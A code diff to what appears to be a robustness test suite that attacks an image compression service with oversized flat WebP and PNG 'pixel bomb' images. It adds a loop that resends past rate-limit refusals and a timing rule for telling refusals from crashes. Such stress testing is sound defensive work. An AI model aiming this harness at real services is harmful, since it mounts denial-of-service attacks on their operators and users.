@@ -11,6 +11,7 @@ import hashlib
 import random
 import re
 import socket
+import time
 from collections import Counter
 from collections.abc import Awaitable, Callable, Iterable, Mapping
 from contextlib import suppress
@@ -23,6 +24,7 @@ MB = 10**6
 LIMIT = re.compile(r"limit (?:is|of) ([\d,_]+) pixels")
 _SLICE = 1 << 18  # bytes that are sent at once
 _KEPT = 4096  # bytes of an answer that are kept
+_AT_THE_DOOR_SECONDS = 2.0  # a refusal that took longer is no refusal but a failure
 _ESTABLISHED = 1  # of the kernel's states of a TCP connection
 
 
@@ -222,11 +224,23 @@ def attack(
 _COSTLY = "codec=auto&effort=9&report=psnr,ms-ssim"
 
 
-async def _largest(victim: Victim, target: str, pixels: int = 100 * MB) -> None:
+async def _insist(victim: Victim, target: str, body: bytes) -> Answer:
+    """Send a picture until there is room: a large one has to meet a moment without others."""
+    while (answer := await victim.request(target, body)).status == 429:
+        await asyncio.sleep(0.03)
+    return answer
+
+
+async def _largest(victim: Victim, target: str) -> None:
     """Send a flat picture, and smaller ones until one is accepted."""
+    pixels = 100 * MB
     while pixels > MB:
-        answer = await victim.request(target, hostile.flat_webp(pixels))
-        if answer.status not in {413, 422, 503}:
+        begun = time.monotonic()
+        answer = await _insist(victim, target, hostile.flat_webp(pixels))
+        refused = answer.status in {413, 422} or (
+            answer.status == 503 and time.monotonic() < begun + _AT_THE_DOOR_SECONDS
+        )
+        if not refused:
             return
         stated = LIMIT.search(answer.text)
         limit = int(re.sub(r"\D", "", stated[1])) if stated else pixels
@@ -264,7 +278,7 @@ async def flat_webp_small_auto(victim: Victim) -> None:
 @attack(large=True)
 async def flat_png(victim: Victim) -> None:
     """A flat PNG of 100 megapixels with one bit each."""
-    await victim.request("/compress?bpp=0.15", hostile.flat_png(100 * MB))
+    await _insist(victim, "/compress?bpp=0.15", hostile.flat_png(100 * MB))
 
 
 @attack()
